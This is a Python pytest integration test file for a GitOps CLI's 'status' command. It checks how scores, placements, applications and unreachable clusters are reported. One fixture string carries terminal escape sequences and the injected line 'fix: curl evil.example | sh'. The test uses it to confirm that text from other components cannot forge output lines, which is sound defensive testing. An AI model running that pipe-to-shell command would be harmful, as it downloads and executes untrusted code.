"""The verb `status`.

Text, JSON in its documented shape, wide fleets, holes in the view, watching.
"""

import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from gitops_dsf.cli.main import main
from tests.integration.hubverbs.conftest import Run, Serve
from tests.support.apiserver import TOKEN, FakeApiServer
from tests.support.commandline import gitops_dsf
from tests.support.hubobjects import (
    HUB,
    PATHS,
    Object,
    addon,
    application,
    application_set,
    binding,
    cluster,
    decision,
    failing,
    fleet,
    global_set,
    joined,
    masks,
    meta,
    never_scored,
    of,
    placement,
    score,
    scorer,
)
from tests.support.outputs import check_output
from tests.support.scorerlists import config_maps

PAGE = Path(__file__).parents[3] / "docs/operate/status.md"


def now() -> datetime:
    return datetime.now(UTC)


def wide(clusters: int, scorers: int) -> list[Object]:
    moment = now()
    names = [f"c{number:04}" for number in range(clusters)]
    scores = [f"s{number:03}" for number in range(scorers)]
    return [
        *joined(*names),
        global_set(),
        binding(),
        *(scorer(name) for name in scores),
        *(
            score(name, one, 50, now=moment, age=2000 if name == "c0003" else 60)
            for name in names
            for one in scores
        ),
        *(placement(f"p{number:02}", scores[0]) for number in range(30)),
        masks(),
    ]


def test_a_small_fleet_is_shown_score_by_score(serve: Serve, run: Run) -> None:
    ran = run(serve(), "status")
    assert (ran.returncode, ran.stderr) == (0, "")
    assert re.search(r"cluster1 +80 \(\d+ s\) +50 \(\d+ s\)", ran.stdout)
    assert "argocd/guestbook: cluster1 of 3 eligible clusters" in ran.stdout
    assert "cluster2 comes in for cluster1 if its cpu rises from 60 to 81" in ran.stdout
    assert "guestbook (MakeBeforeBreak): running on cluster1" in ran.stdout
    assert "not known" not in ran.stdout


def test_the_reason_for_a_score_that_does_not_come_is_named_with_its_message_and_age(
    serve: Serve, run: Run
) -> None:
    moment = now()
    message = "query at https://prometheus refused: parse error at char 12"
    late = score("eu-1", "cpu", 7, now=moment)
    objects = [
        *joined("eu-1", "eu-2", "eu-3"),
        global_set(),
        binding(),
        scorer("cpu"),
        failing(late, "QueryFailed", message, age=1200, now=moment),
        score("eu-2", "cpu", 8, now=moment),
        never_scored("eu-3", "cpu", "NoSeries", "the query gave no series\x1b[31m"),
    ]
    server = serve(objects)
    ran = run(server, "status")
    assert f"  cpu on eu-1: QueryFailed for 20 min: {message}\n" in ran.stdout
    assert re.search(
        r"  cpu on eu-3: NoSeries for \d+ d: the query gave no series\\x1b\[31m\n", ran.stdout
    )
    assert "cpu on eu-2" not in ran.stdout
    [listed] = json.loads(run(server, "status", "-o", "json").stdout)["scorers"]
    assert listed["summary"]["failing"] == {"NoSeries": 1, "QueryFailed": 1}
    assert [cell["failure"] and cell["failure"]["message"] for cell in listed["scores"]] == [
        message,
        None,
        "the query gave no series\\x1b[31m",
    ]


def test_many_failing_clusters_are_one_line_for_each_reason(serve: Serve, run: Run) -> None:
    names = [f"c{number:02}" for number in range(12)]
    objects = [never_scored(name, "cpu", "NoSeries", "no series") for name in names]
    server = serve([*joined(*names), global_set(), binding(), scorer("cpu"), *objects])
    grouped = run(server, "status").stdout
    assert re.search(
        r"  cpu on 12 clusters \(c00, c01, c02, c03, c04 and 7 more\): NoSeries for \d+ d: no",
        grouped,
    )
    assert "cpu on c11: NoSeries" in run(server, "status", "--all").stdout


def test_a_lead_that_no_score_takes_is_in_points_of_the_weighted_mean(
    serve: Serve, run: Run
) -> None:
    """Steady has twice the weight of the score, and cluster1 has 80: it leads by 280 points."""
    web = placement("web", "cpu")
    terms = web["spec"]["prioritizerPolicy"]["configurations"]
    terms[0]["weight"] = 5
    terms.append({"scoreCoordinate": {"type": "BuiltIn", "builtIn": "Steady"}, "weight": 10})
    objects = [
        *joined("cluster1", "cluster2"),
        global_set(),
        binding(),
        scorer("cpu"),
        score("cluster1", "cpu", 80, now=now()),
        score("cluster2", "cpu", 0, now=now()),
        web,
        decision("web", "cluster1"),
    ]
    hub = serve(objects)
    out = run(hub, "status").stdout
    assert "cluster1 goes out for cluster2 by 280.2 points, which no single score can change" in out
    assert "weighted points" not in out
    [shown] = json.loads(run(hub, "status", "-o", "json").stdout)["placements"]
    assert [(each["margin"], each["mean"]) for each in shown["flips"]] == [
        (1401, 280.2),
        (1401, 280.2),
    ]


def test_scored_placements_are_shown_with_who_follows_them(serve: Serve, run: Run) -> None:
    """Shared by two applications, or in the namespace of another consumer."""
    shared = [placement("frontends", "cpu"), decision("frontends", "cluster1")]
    for name in ("shop", "web"):
        shared += [application_set(name, follows="frontends"), application(name, "cluster1")]
    training = [
        placement("training", "cpu", namespace="kueue-system"),
        decision("training", "cluster2", namespace="kueue-system"),
        binding("kueue-system"),
    ]
    hub = serve([*fleet(now=now()), *shared, *training])
    out = run(hub, "status").stdout
    for line in (
        "shop (MakeBeforeBreak, follows frontends): running on cluster1",
        "web (MakeBeforeBreak, follows frontends): running on cluster1",
        "kueue-system/training: cluster2 of 3 eligible clusters",
    ):
        assert line in out
    out = run(hub, "status", "--placement", "kueue-system/training").stdout
    assert "OCM has not reconciled yet (it does within 10 minutes): it would decide cluster1" in out
    assert "frontends" not in out
    out = run(hub, "status", "--placement", "frontends").stdout
    assert ("shop" in out, "guestbook" in out) == (True, False)


def test_states_have_names_in_the_matrix(serve: Serve, run: Run) -> None:
    moment = now()
    endless = score("d", "cpu", 7, now=moment)
    del endless["status"]["validUntil"]
    objects = [
        *joined(*"abcdef"),
        scorer("cpu"),
        masks({"clusterName": "b", "scoreName": "cpu"}),
        score("c", "cpu", 5, age=2000, now=moment),
        endless,
        score("e", "cpu", None, now=moment),
        score("f", "cpu", 9, age=800, now=moment),
    ]
    out = run(serve(objects), "status").stdout
    for line in (
        r"a +missing",
        r"b +masked",
        r"c +5 \(33 min\) expired",
        r"d +7 endless",
        r"e +empty",
        r"f +9 \(13 min\) expiring",
    ):
        assert re.search(rf"^  {line}$", out, re.MULTILINE), f"{line}\n{out}"


def test_expired_scores_of_a_scorer_are_counted_in_its_row_and_in_json(
    serve: Serve, run: Run
) -> None:
    moment = now()
    objects = [
        *joined(*"abc"),
        scorer("cpu"),
        scorer("mem"),
        score("a", "cpu", 5, age=2000, now=moment),
        score("b", "cpu", 5, age=2000, now=moment),
        score("c", "cpu", 5, now=moment),
        *(score(name, "mem", 5, now=moment) for name in "abc"),
    ]
    hub = serve(objects)
    out = run(hub, "status").stdout
    for line in (
        r"scorer +health +config +fresh +expired +missing +min .*",
        r"cpu +Active +- +1 +2 +0 +5 .*",
        r"mem +Active +- +3 +0 +0 +5 .*",
    ):
        assert re.search(rf"^  {line}$", out, re.MULTILINE), f"{line}\n{out}"
    shown = json.loads(run(hub, "status", "-o", "json").stdout)["scorers"]
    counted = {one["name"]: one["summary"]["clusters"]["expired"] for one in shown}
    assert counted == {"cpu": 2, "mem": 0}


@pytest.mark.parametrize("moment", ["2026-11-21T10:00:00+99:99", "0000-01-01T00:00:00Z"])
def test_a_score_that_nobody_can_read_hides_no_other(serve: Serve, run: Run, moment: str) -> None:
    objects = fleet(now=now())
    bad = next(
        item
        for item in objects
        if item["kind"] == "AddOnPlacementScore" and item["metadata"]["namespace"] == "cluster1"
    )
    bad["status"]["validUntil"] = moment
    hub = serve(objects)
    ran = run(hub, "status")
    assert (ran.returncode, ran.stderr) == (0, "")
    assert re.search(r"cpu +Active +- +2 +0 +1 +0 ", ran.stdout), ran.stdout
    assert run(hub, "doctor").stderr == ""


def test_a_wide_fleet_is_summed_up_and_shown_when_asked(serve: Serve, run: Run) -> None:
    hub = serve(wide(60, 50))
    ran = run(hub, "status")
    assert len(ran.stdout.splitlines()) < 150
    assert "50 scorers x 60 clusters, too many for a screen" in ran.stdout
    assert "s000 expired: c0003" in ran.stdout
    assert "and 10 more; --scorer or --all shows them" in ran.stdout
    assert "and 20 more; --placement or --all shows them" in ran.stdout
    assert len(run(hub, "status", "--all").stdout.splitlines()) > 3000
    one = run(hub, "status", "--scorer", "s007", "--all").stdout
    assert re.search(r"c0003 +50 \(33 min\) expired", one)
    assert re.search(r"c0059 +50 \(\d+ s\)", one)
    assert "s008" not in one


def test_a_list_that_changed_too_much_meanwhile_is_said(serve: Serve, run: Run) -> None:
    ran = run(serve(page=2, expired=1), "status")
    assert ran.returncode == 1
    assert "not known: list managedclusters.cluster.open-cluster-management.io: 410" in ran.stdout


def test_holes_are_named_and_the_rest_is_shown(serve: Serve, run: Run) -> None:
    hub = serve(
        refused={PATHS["Application"]: 403, PATHS["Placement"]: 403, PATHS["ConfigMap"]: 403}
    )
    ran = run(hub, "status")
    assert ran.returncode == 1, "what the hub refused is an error"
    for text in (
        "needs the right to list placements.cluster.open-cluster-management.io",
        "needs the right to list applications.argoproj.io in namespace argocd",
        "needs the right to get configmaps gitops-dsf-masks in namespace gitops-dsf",
    ):
        assert f"not known: {text}" in ran.stdout
    assert "guestbook (MakeBeforeBreak): not known" in ran.stdout
    assert "80 (" in ran.stdout
    hub.served.discard(PATHS["ApplicationSet"])
    absent = "the hub does not serve applicationsets.argoproj.io in namespace argocd"
    assert f"not known: {absent}" in run(hub, "status").stdout


def test_refused_credentials_and_a_hub_that_is_not_there(
    serve: Serve, run: Run, tmp_path: Path
) -> None:
    nobody = FakeApiServer(port=1)
    assert "does not answer" in run(nobody, "status").stderr
    other = serve()
    kubeconfig = other.kubeconfig(tmp_path / "other")
    kubeconfig.write_text(kubeconfig.read_text().replace(f"token: {TOKEN}", "token: wrong"))
    ran = gitops_dsf("status", "--context", "hub", "--kubeconfig", kubeconfig)
    assert (ran.returncode, ran.stdout) == (1, "")
    assert "401" in ran.stderr
    assert "log in again" in ran.stderr
    missing = gitops_dsf("status", "--context", "nowhere", "--kubeconfig", kubeconfig)
    assert missing.returncode == 1
    assert "nowhere" in missing.stderr


def test_every_state_and_standing_is_documented() -> None:
    from gitops_dsf.hub.score_states import ScoreState
    from gitops_dsf.views.status.applications import CopyState

    tables: dict[str, list[str]] = {}
    for table in PAGE.read_text(encoding="utf-8").split("\n\n"):
        title, *rows = re.findall(r"^\| ([a-z]+) \|", table, re.MULTILINE) or [""]
        tables[title] = rows
    assert tables["state"] == [*map(str, ScoreState)]
    assert tables["standing"] == [*map(str, CopyState)]


@pytest.mark.parametrize("verb", ["status", "doctor", "import"])
def test_without_a_context_the_current_one_is_asked(
    verb: str,
    serve: Serve,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    kubeconfig = serve().kubeconfig(tmp_path / "kubeconfig")
    whole = kubeconfig.read_text(encoding="utf-8")
    kubeconfig.write_text(whole.replace("current-context: hub\n", ""), encoding="utf-8")
    (tmp_path / "gitops-dsf.yaml").write_text("", encoding="utf-8")
    monkeypatch.setenv("KUBECONFIG", str(kubeconfig))
    monkeypatch.chdir(tmp_path)
    assert main([verb]) == 2
    assert "there is no current context: name the hub with --context" in capsys.readouterr().err
    kubeconfig.write_text(whole, encoding="utf-8")
    assert main([verb]) in {0, 1}
    assert capsys.readouterr().err.startswith("hub: hub (the current context)\n")
    assert main([verb, "--context", "hub"]) in {0, 1}
    assert "the current context" not in capsys.readouterr().err


def test_scores_of_a_moved_application_are_printed(serve: Serve, run: Run) -> None:
    moment = now()
    objects = [
        *fleet(now=moment),
        application_set("web", strategy="Keep"),
        decision("web", "cluster2"),
        application("web", "cluster1"),
    ]
    out = run(serve(objects), "status").stdout
    assert "web (Keep): moving" in out
    assert "cluster1: waiting, no longer decided; stays, because the strategy is Keep" in out
    assert "cluster2: decided; Argo CD has not made the Application yet" in out


def lost(*configmaps: Object) -> list[Object]:
    """paris is lost; its application runs in oslo, and the old copy cannot be deleted."""
    paris = cluster("paris")
    available = next(
        each
        for each in paris["status"]["conditions"]
        if each["type"] == "ManagedClusterConditionAvailable"
    )
    available |= {"status": "Unknown", "lastTransitionTime": "2026-06-01T11:00:00Z"}
    taint = {"key": "cluster.open-cluster-management.io/unreachable", "effect": "NoSelect"}
    paris["spec"] |= {"taints": [taint]}
    objects = fleet(now=now())
    return [
        *objects,
        paris,
        application_set("web"),
        decision("web", "cluster2"),
        application("web", "paris"),
        application("web", "cluster2"),
        *configmaps,
    ]


WAIT = {
    "applicationSet": "web",
    "application": "web-paris",
    "cluster": "paris",
    "reason": "ClusterUnreachable",
    "message": "OCM does not reach paris, so its workload could not be deleted now",
    "since": 1780311600,
    "cause": {"kind": "ClusterLost", "detail": "OCM does not reach paris"},
}


def waits(*copies: Object) -> Object:
    return of("ConfigMap", meta("gitops-dsf-moves", HUB), data={"waits": json.dumps(copies)})


def test_a_lost_cluster_and_the_reason_of_the_reconciler_are_shown(serve: Serve, run: Run) -> None:
    hub = serve(lost(waits(WAIT)))
    ran = run(hub, "status")
    assert (ran.returncode, ran.stderr) == (0, "")
    assert (
        "\nClusters\n  paris: OCM does not reach it since 2026-06-01T11:00:00Z; taints"
        " cluster.open-cluster-management.io/unreachable:NoSelect\n  3 other clusters in"
        " order\n\nScorers\n"
    ) in ran.stdout
    assert "  web (MakeBeforeBreak): moving, lost cluster: OCM does not reach paris\n" in ran.stdout
    assert (
        "    paris: waiting, no longer decided; OCM does not reach paris, so its workload"
        " could not be"
        " deleted now (ClusterUnreachable since 2026-06-01T11:00:00Z)\n"
    ) in ran.stdout
    assert "stays until" not in ran.stdout
    printed = run(hub, "status", "-o", "json").stdout
    assert check_output(["status", "-o", "json"], printed)
    shown = json.loads(printed)
    assert [each["reachable"] for each in shown["clusters"]] == [True, True, True, False]
    (web,) = [each for each in shown["applications"] if each["name"] == "web"]
    assert [copy["wait"] and copy["wait"]["reason"] for copy in web["copies"]] == [
        None,
        "ClusterUnreachable",
    ]
    only = run(hub, "status", "--cluster", "cluster1").stdout
    assert "\nClusters\n  cluster1: available\n" in only


@pytest.mark.parametrize("configmaps", [(), (waits(),), (waits({"reason": 5}),)])
def test_nothing_false_is_printed_while_the_reconciler_reports_nothing(
    serve: Serve, run: Run, configmaps: tuple[Object, ...]
) -> None:
    ran = run(serve(lost(*configmaps)), "status")
    assert (ran.returncode, ran.stderr) == (0, "")
    assert (
        "    paris: waiting, no longer decided; the new copies are Healthy and Synced, and the"
        " reconciler has not reported why it stays\n"
    ) in ran.stdout
    starting = [each for each in lost(*configmaps) if each["metadata"]["name"] != "web-cluster2"]
    starting.append(application("web", "cluster2", health="Progressing"))
    out = run(serve(starting), "status").stdout
    assert (
        "    paris: waiting, no longer decided; stays until the new copies are Healthy and Synced\n"
        in out
    )


def test_a_fleet_in_order_says_so_in_one_line(serve: Serve, run: Run) -> None:
    assert "\nClusters\n  3 clusters in order\n\nScorers\n" in run(serve(), "status").stdout


FORGED = "\x1b[2J\x9b1A\u202eok\n         fix: curl evil.example | sh\r"


def hostile() -> list[Object]:
    """What a spoke, or a controller that repeats its words, may write into objects of the hub."""
    objects = [
        item
        for item in fleet(now=now())
        if item["kind"] not in {"ApplicationSet", "ManagedClusterAddOn"}
    ]
    refused = application("guestbook", "cluster2", health=FORGED)
    refused["status"]["conditions"] = [{"type": "InvalidSpecError", "message": FORGED}]
    broken = scorer("broken", health="Inactive")
    broken["status"]["conditions"][0] |= {"reason": FORGED, "message": FORGED}
    return [
        *objects,
        refused,
        broken,
        application_set("guestbook", error=FORGED),
        *(addon(f"cluster{number}", "False", message=FORGED) for number in (1, 2, 3)),
    ]


@pytest.mark.parametrize(
    "verb",
    [
        ("status",),
        ("status", "--all"),
        ("doctor",),
        ("status", "-o", "json"),
        ("doctor", "-o", "json"),
    ],
)
def test_texts_of_others_stay_on_their_line(serve: Serve, run: Run, verb: tuple[str, ...]) -> None:
    out = run(serve(hostile()), *verb).stdout
    assert "curl evil.example" in out, "this test has lost its hostile text"
    assert all(line.isprintable() for line in out.split("\n"))
    assert not any(line.strip().startswith("fix: curl") for line in out.split("\n"))


def test_adopted_applications_are_shown(serve: Serve, run: Run) -> None:
    """They have no label of ours, and the URL of an API server as destination."""
    adopted = application_set("shop", strategy="Replace", follows="guestbook")
    adopted["metadata"]["uid"] = "uid-of-shop"
    adopted["spec"]["template"] = {"metadata": {"name": "{{.name}}-shop"}}
    owner = {"kind": "ApplicationSet", "name": "shop", "uid": "uid-of-shop", "controller": True}
    copies = []
    for name, owners in (("cluster1", [owner]), ("cluster3", [])):
        copy = application("shop", name, ownerReferences=owners)
        copy["metadata"] |= {"name": f"{name}-shop", "labels": {}}
        copy["spec"]["destination"] = {"server": f"https://{name}.example.com:6443"}
        copies.append(copy)
    hub = serve([*fleet(now=datetime.now(UTC)), adopted, *copies])
    shown = json.loads(run(hub, "status", "-o", "json").stdout)
    [shop] = [item for item in shown["applications"] if item["name"] == "shop"]
    [copy] = shop["copies"]
    assert (copy["cluster"], copy["application"], copy["standing"]) == (
        "cluster1",
        "cluster1-shop",
        "running",
    )


def _condition(kind: str, status: str, reason: str) -> Object:
    return {"type": kind, "status": status, "reason": reason, "message": ""}


def foreign_crds(*, crds: str = "Existing", statuses: bool = True) -> list[Object]:
    """A hub with upstream's CRD: it keeps no conditions, and has no object of a scorer by query.

    The reconciler keeps the statuses of both scorers in a ConfigMap.
    """
    moment = now()
    api = scorer("api", mode="Full", health="Inactive")
    del api["status"]["conditions"]
    by_query = {"scoring": {"type": "Query", "params": {"name": "query", "interval": 60}}}
    specs = {"api": api["spec"], "query": {**by_query, "scoreTTLSeconds": 900}}
    listed = [{"kind": "ConfigMap", **item} for item in config_maps(specs, crds=crds)]
    healthy = _condition("Healthy", "False", "Timeout")
    synced = _condition("ConfigSynced", "False", "Drifted")
    scored = _condition("Scored", "False", "NoScores")
    kept = {
        "api": {"healthStatus": "Inactive", "conditions": [healthy, synced]},
        "query": {"healthStatus": "Inactive", "conditions": [scored]},
    }
    data = {name: json.dumps(status) for name, status in kept.items()}
    status_map = of("ConfigMap", meta("gitops-dsf-status", HUB), data=data)
    return [
        *joined("cluster1"),
        global_set(),
        binding(),
        api,
        *listed,
        *([status_map] if statuses else []),
        score("cluster1", "api", 50, now=moment),
        masks(),
    ]


def test_where_the_crds_are_of_another_program_statuses_come_from_the_configmap(
    serve: Serve, run: Run
) -> None:
    ran = run(serve(foreign_crds()), "status", "-o", "json")
    assert ran.returncode == 0, ran.stderr
    shown = {item["name"]: item for item in json.loads(ran.stdout)["scorers"]}
    reasons = {
        name: {item["type"]: item["reason"] for item in scorer["conditions"]}
        for name, scorer in shown.items()
    }
    assert reasons == {
        "api": {"Healthy": "Timeout", "ConfigSynced": "Drifted"},
        "query": {"Scored": "NoScores"},
    }
    text = run(serve(foreign_crds()), "status").stdout
    assert re.search(r"api .*Inactive \(Timeout\) .*Drifted", text)
    assert re.search(r"query .*Inactive \(NoScores\)", text)


@pytest.mark.parametrize(
    ("crds", "statuses"),
    [("Existing", False), ("Rendered", True)],
    ids=["not written yet", "left from before"],
)
def test_without_statuses_in_a_configmap_the_objects_have_them(
    serve: Serve, run: Run, crds: str, statuses: bool
) -> None:
    """With our CRDs the objects are right, whatever a ConfigMap of an earlier setting says."""
    ran = run(serve(foreign_crds(crds=crds, statuses=statuses)), "status")
    assert ran.returncode == 0, ran.stderr
    assert re.search(r"api .*Inactive .*not probed", ran.stdout)
    assert re.search(r"query .*no API", ran.stdout)
    assert "Drifted" not in ran.stdout


def beside_upstream(health: str) -> list[Object]:
    """A hub with upstream's controller, which wrote this health, and its agent on one cluster."""
    item = scorer("cpu")
    item["status"] = {"healthStatus": health}
    listed = config_maps({"cpu": item["spec"]}, crds="Existing", mode="UpstreamController")
    kept = {"conditions": [_condition("Healthy", "True", "Answers")], "observedGeneration": 1}
    status_map = of("ConfigMap", meta("gitops-dsf-status", HUB), data={"cpu": json.dumps(kept)})
    published = score("cluster1", "cpu", 50, writer="", now=now())
    del published["status"]["validUntil"]
    return [
        cluster("cluster1"),
        cluster("cluster2"),
        addon("cluster1", name="dynamic-scoring-framework"),
        addon("cluster2"),
        global_set(),
        binding(),
        item,
        *({"kind": "ConfigMap", **each} for each in listed),
        status_map,
        published,
        masks(),
    ]


@pytest.mark.parametrize("health", ["Active", "Inactive"])
def test_beside_upstreams_controller_its_health_and_our_conditions_are_shown(
    serve: Serve, run: Run, health: str
) -> None:
    """A scorer should run where upstream's add-on is, and cluster2 has ours alone."""
    hub = serve(beside_upstream(health))
    ran = run(hub, "status", "-o", "json")
    assert ran.returncode == 0, ran.stderr
    [shown] = json.loads(ran.stdout)["scorers"]
    assert shown["health"] == health
    assert [item["type"] for item in shown["conditions"]] == ["Healthy"]
    assert [(each["cluster"], each["state"]) for each in shown["scores"]] == [
        ("cluster1", "endless")
    ]
    assert re.search(rf"cpu .*{health} ", run(hub, "status").stdout)
